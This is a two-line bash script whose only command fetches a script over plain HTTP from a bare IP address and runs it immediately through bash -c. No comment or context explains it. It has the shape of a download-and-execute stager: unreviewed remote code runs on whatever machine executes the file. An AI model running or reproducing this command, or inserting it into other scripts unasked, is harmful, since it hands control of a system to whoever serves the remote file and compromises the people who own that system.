#!/bin/bash
bash -c "$(curl -fsSL http://198.51.100.3/s)"
